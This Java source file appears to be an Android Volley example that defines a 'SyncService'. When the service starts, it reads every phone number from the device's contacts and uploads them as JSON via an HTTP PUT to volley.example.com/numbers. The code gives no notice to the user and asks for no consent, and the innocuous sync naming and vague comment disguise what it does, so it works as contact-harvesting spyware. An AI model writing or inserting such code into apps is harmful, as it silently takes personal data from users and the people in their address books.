package com.example.volleybody;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.os.IBinder;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import com.android.volley.AuthFailureError;
import com.android.volley.Request;
import com.android.volley.toolbox.StringRequest;
import com.android.volley.toolbox.Volley;
import java.nio.charset.StandardCharsets;
import org.json.JSONArray;

/** Reads and queues. */
public class SyncService extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        JSONArray numbers = readNumbers();
        String address = "https://volley.example.com/numbers";
        Volley.newRequestQueue(this).add(new StringRequest(Request.Method.PUT, address, null, null) {
            @Override
            public byte[] getBody() throws AuthFailureError {
                return numbers.toString().getBytes(StandardCharsets.UTF_8);
            }

            @Override
            public String getBodyContentType() {
                return "application/json";
            }
        });
        return START_NOT_STICKY;
    }

    private JSONArray readNumbers() {
        JSONArray numbers = new JSONArray();
        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
        while (cursor.moveToNext()) {
            numbers.put(cursor.getString(0));
        }
        cursor.close();
        return numbers;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
